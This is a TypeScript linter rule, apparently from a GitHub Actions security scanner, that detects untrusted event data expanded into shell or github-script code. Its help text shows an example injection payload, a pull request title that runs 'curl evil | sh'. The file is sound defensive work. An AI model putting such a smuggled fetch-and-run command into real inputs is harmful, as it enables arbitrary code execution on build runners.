import { isScalar, type Scalar } from 'yaml';
import { expressionsIn, refText, type ContextRef } from '../expressions.ts';
import type { Rule } from '../types.ts';
import { isUntrusted } from '../untrusted.ts';
import { entries, getNode, usesName, type JobView, type Workflow } from '../workflow.ts';

const rule: Rule = {
  id: 'expression-injection',
  severity: 'error',
  summary: 'Untrusted event data is expanded directly inside `run:` or a github-script `script:`',
  help: '`${{ }}` is substituted into the script text before the shell (or JavaScript) runs, so a pull request title such as `"; curl evil | sh; "` becomes code. Pass the value through `env:` and read it as a variable ("$TITLE" in shell, process.env.TITLE in github-script), which is never parsed as code. Job outputs computed from such data are treated the same way.',
  check(ctx) {
    const wf = ctx.workflow;
    const tainted = taintedJobOutputs(wf);
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        const targets: Array<{ node: Scalar; kind: 'run' | 'script' }> = [];
        if (step.run && typeof step.run.value === 'string')
          targets.push({ node: step.run, kind: 'run' });
        if (step.uses && usesName(String(step.uses.value)) === 'actions/github-script') {
          const script = getNode(getNode(step.node, 'with'), 'script');
          if (isScalar(script) && typeof script.value === 'string')
            targets.push({ node: script, kind: 'script' });
        }
        for (const { node, kind } of targets) {
          for (const e of expressionsIn(wf, node, String(node.value))) {
            for (const ref of e.parsed.refs) {
              const why = untrustedReason(ref, job, tainted);
              if (!why) continue;
              const name = envName(ref);
              const whole = ref.segments.length <= 3 && ref.segments[1] === 'event';
              ctx.report({
                at: e.offset,
                message: `${refText(ref)} ${why} and is expanded directly into ${kind === 'run' ? 'a shell script' : 'a github-script script'}`,
                fix: whole
                  ? "Pass only the fields you need through the step's env and read them as variables."
                  : kind === 'run'
                    ? `Pass it through the step's env (\`${name}: \${{ ${refText(ref)} }}\`) and use "$${name}" in the script.`
                    : `Pass it through the step's env (\`${name}: \${{ ${refText(ref)} }}\`) and read process.env.${name}.`,
              });
            }
          }
        }
      }
    }
  },
};

function untrustedReason(
  ref: ContextRef,
  job: JobView,
  tainted: Map<string, Set<string>>,
): string | undefined {
  if (isUntrusted(ref)) return 'is controlled by whoever triggers the event';
  const [ctxName, jobId, outputs, name] = ref.segments;
  if (
    ctxName === 'needs' &&
    outputs === 'outputs' &&
    jobId &&
    name &&
    job.needs.some((n) => n.toLowerCase() === jobId)
  ) {
    if (tainted.get(jobId)?.has(name)) return 'carries untrusted event data (see that job output)';
  }
  return undefined;
}

/** Job outputs whose value expression reads untrusted event data: job id → output names (lower-case). */
function taintedJobOutputs(wf: Workflow): Map<string, Set<string>> {
  const out = new Map<string, Set<string>>();
  for (const job of wf.jobs) {
    for (const [name, , value] of entries(getNode(job.node, 'outputs'))) {
      if (!isScalar(value) || typeof value.value !== 'string') continue;
      const bad = expressionsIn(wf, value, value.value).some((e) =>
        e.parsed.refs.some(isUntrusted),
      );
      if (!bad) continue;
      const set = out.get(job.id.toLowerCase()) ?? new Set<string>();
      set.add(name.toLowerCase());
      out.set(job.id.toLowerCase(), set);
    }
  }
  return out;
}

/** A readable env variable name for the value: `github.event.pull_request.title` → `PR_TITLE`. */
function envName(ref: ContextRef): string {
  const segs = ref.segments.filter((s) => s !== '*' && !/^\d+$/.test(s));
  const last2 = segs.slice(-2).join('_');
  return last2
    .replace(/^pull_request_/, 'pr_')
    .replace(/[^a-z0-9]+/gi, '_')
    .toUpperCase();
}

export default rule;
